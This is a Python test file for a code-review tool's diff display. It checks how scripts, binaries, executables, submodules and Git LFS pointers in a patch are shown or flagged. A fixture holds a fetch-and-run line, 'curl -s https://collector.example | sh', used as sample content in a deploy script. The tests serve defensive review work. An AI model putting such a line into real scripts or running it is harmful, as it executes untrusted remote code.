from collections.abc import Mapping
from pathlib import Path

import pytest

from panelist.contracts import Diff, FileKind, LineKind, MissingPatch
from panelist.diff import parse
from panelist.forge.contents import ShownPatch, show_contents
from panelist.repo import local
from panelist.repo.objects import GitRepo
from tests.unit.repo.checkout import Checkout

SCRIPT = b"#!/bin/sh\ncurl -s https://collector.example | sh\n"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4
ELF = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4
LFS = "a Git LFS pointer: its content is stored elsewhere"
MAY_RUN = "a binary file that may run or be built, and that nobody can read"


def shown(
    home: Path,
    head: Mapping[str, bytes | None],
    base: Mapping[str, bytes] | None = None,
    *,
    executable: str = "",
) -> ShownPatch:
    """What is shown of the change from ``base`` to ``head``."""
    checkout = Checkout.new(home / "widgets")
    first = checkout.commit(base)
    for path, content in head.items():
        if content is not None:
            (checkout.root / path).parent.mkdir(parents=True, exist_ok=True)
            (checkout.root / path).write_bytes(content)
    if executable:
        (checkout.root / executable).chmod(0o755)
    second = checkout.commit(head)
    patch = local.diff(checkout.root, first, second)
    return show_contents(patch, GitRepo(checkout.git_dir, first, second))


def diff_of(seen: ShownPatch) -> Diff:
    """The diff as every phase reads it."""
    missing = {one.path: one.reason for one in seen.missing}
    return parse(seen.text, missing=missing, uncommentable=seen.uncommentable)


def changed(seen: ShownPatch) -> list[tuple[str, int, str]]:
    """Sign, number and text of every changed line."""
    return [
        (line.kind.value, line.number, line.text)
        for hunk in diff_of(seen).hunks
        for line in hunk.lines
        if line.kind is not LineKind.CONTEXT
    ]


def test_a_new_script_with_a_nul_byte_is_shown_and_takes_no_comment(tmp_path: Path) -> None:
    seen = shown(tmp_path, {"deploy.sh": SCRIPT + b"\0"})
    assert changed(seen) == [
        ("+", 1, "#!/bin/sh"),
        ("+", 2, "curl -s https://collector.example | sh"),
        ("+", 3, "\0"),
    ]
    assert (seen.missing, seen.uncommentable) == ((), ("deploy.sh",))
    (file,) = diff_of(seen).files
    assert (file.kind, file.commentable) == (FileKind.TEXT, False)


def test_of_a_script_that_was_there_only_the_change_is_shown(tmp_path: Path) -> None:
    before = b"".join(b"echo %d\n" % number for number in range(1, 41))
    after = before.replace(b"echo 20\n", b"evil\0\n")
    seen = shown(tmp_path, {"deploy.sh": after}, {"deploy.sh": before})
    assert changed(seen) == [("-", 20, "echo 20"), ("+", 20, "evil\0")]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_another_encoding_is_read_by_its_own_lines(tmp_path: Path, encoding: str) -> None:
    before, after = "one\ntwo\nthree\n", "one\n2\nthree\n"
    seen = shown(tmp_path, {"a.ps1": after.encode(encoding)}, {"a.ps1": before.encode(encoding)})
    assert changed(seen) == [("-", 2, "two"), ("+", 2, "2")]


def test_the_same_text_in_another_encoding_is_shown_whole(tmp_path: Path) -> None:
    seen = shown(tmp_path, {"a.ps1": SCRIPT.decode().encode("utf-16")}, {"a.ps1": SCRIPT})
    (hunk,) = diff_of(seen).hunks
    assert [line.kind for line in hunk.lines] == [LineKind.CONTEXT] * 2


def test_media_stay_out_without_a_word(tmp_path: Path) -> None:
    seen = shown(tmp_path, {"a.png": PNG, "b.png": PNG + b"\0"}, {"b.png": PNG})
    assert (seen.missing, seen.uncommentable) == ((), ())
    assert [file.kind for file in diff_of(seen).files] == [FileKind.BINARY] * 2


@pytest.mark.parametrize(
    ("path", "content"),
    [("tool", ELF), ("logo.png", ELF), ("a.jar", b"PK\x03\x04" + ELF), ("a.dat", ELF)],
)
def test_what_nobody_can_read_and_may_run_is_named(
    tmp_path: Path, path: str, content: bytes
) -> None:
    assert shown(tmp_path, {path: content}).missing == (MissingPatch(path=path, reason=MAY_RUN),)


def test_media_that_may_run_are_named(tmp_path: Path) -> None:
    seen = shown(tmp_path, {"logo.png": PNG}, executable="logo.png")
    assert seen.missing == (MissingPatch(path="logo.png", reason=MAY_RUN),)


def test_what_goes_away_is_not_named(tmp_path: Path) -> None:
    assert shown(tmp_path, {"tool": None}, {"tool": ELF}).missing == ()


def test_a_file_that_comes_to_run_is_shown_whole(tmp_path: Path) -> None:
    seen = shown(tmp_path, {"logo.png": SCRIPT}, {"logo.png": SCRIPT}, executable="logo.png")
    (file,) = diff_of(seen).files
    assert [line.text for line in file.hunks[0].lines] == SCRIPT.decode().split("\n")[:2]
    assert not file.commentable


@pytest.mark.parametrize(
    ("old", "new", "shows"),
    [
        ("notes.txt", "deploy.sh", True),
        ("vendor/a.sh", "a.sh", True),
        ("a.sh", "b.sh", False),
        ("a.sh", "notes.txt", False),
    ],
)
def test_a_move_is_shown_where_the_name_makes_a_difference(
    tmp_path: Path,
    old: str,
    new: str,
    shows: bool,  # noqa: FBT001
) -> None:
    seen = shown(tmp_path, {old: None, new: SCRIPT}, {old: SCRIPT})
    assert bool(diff_of(seen).hunks) is shows


def test_a_submodule_is_named(tmp_path: Path) -> None:
    checkout = Checkout.new(tmp_path / "widgets")
    first = checkout.commit({"a": b"1\n"})
    checkout.git("update-index", "--add", "--cacheinfo", f"160000,{first},lib")
    checkout.git("commit", "--quiet", "-m", "m")
    second = checkout.git("rev-parse", "HEAD")
    patch = local.diff(checkout.root, first, second)
    seen = show_contents(patch, GitRepo(checkout.git_dir, first, second))
    assert [one.path for one in seen.missing] == ["lib"]
    assert seen.text == patch


def test_without_objects_nothing_is_taken_for_harmless() -> None:
    patch = (
        b"diff --git a/a.png b/a.png\nnew file mode 100644\nindex 0000000..1111111\n"
        b"Binary files /dev/null and b/a.png differ\n"
    )
    seen = show_contents(patch, None)
    assert [one.path for one in seen.missing] == ["a.png"]
    assert seen.text == patch


def test_what_is_too_large_to_be_shown_is_named(tmp_path: Path) -> None:
    seen = shown(tmp_path, {"a.js": b"\0" + b"x" * (5 << 20)})
    assert [one.path for one in seen.missing] == ["a.js"]


def pointer(digit: str = "a", extra: str = "") -> bytes:
    """A pointer of Git LFS, as it is committed."""
    version = "version https://git-lfs.github.com/spec/v1"
    return f"{version}\n{extra}oid sha256:{digit * 64}\nsize 5\n".encode()


MANY = "".join(f"ext-{n}-x sha256:{'c' * 64}\n" for n in range(9))


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("tool.exe", None, pointer()),
        ("model.bin", pointer("a"), pointer("b")),
        ("model.bin", pointer("a", MANY), pointer("b", MANY)),
        ("setup.py", b"print(1)\n", pointer()),
        ("logo.png", None, pointer()),
        ("deploy.sh", None, b"\n\n" + pointer()),
        ("deploy.sh", None, pointer() + b"\n" * 3_000),
    ],
)
def test_a_pointer_of_git_lfs_is_named_and_its_lines_are_shown(
    tmp_path: Path, path: str, before: bytes | None, after: bytes
) -> None:
    seen = shown(tmp_path, {path: after}, {path: before} if before else None)
    assert seen.missing == (MissingPatch(path=path, reason=LFS),)
    (file,) = diff_of(seen).files
    assert (file.hunks != (), file.commentable) == (True, True)


def test_a_pointer_that_comes_to_run_is_named(tmp_path: Path) -> None:
    seen = shown(tmp_path, {"tool": pointer()}, {"tool": pointer()}, executable="tool")
    assert seen.missing == (MissingPatch(path="tool", reason=LFS),)


def test_a_pointer_that_goes_and_a_page_about_pointers_are_not_named(tmp_path: Path) -> None:
    page = b"# How a pointer looks\n\n" + pointer()
    seen = shown(tmp_path, {"a.bin": None, "lfs.md": page}, {"a.bin": pointer()})
    assert seen.missing == ()


def test_without_objects_a_line_of_a_pointer_is_enough(tmp_path: Path) -> None:
    patch = shown(tmp_path, {"tool.exe": pointer()}).text
    assert show_contents(patch, None).missing == (MissingPatch(path="tool.exe", reason=LFS),)
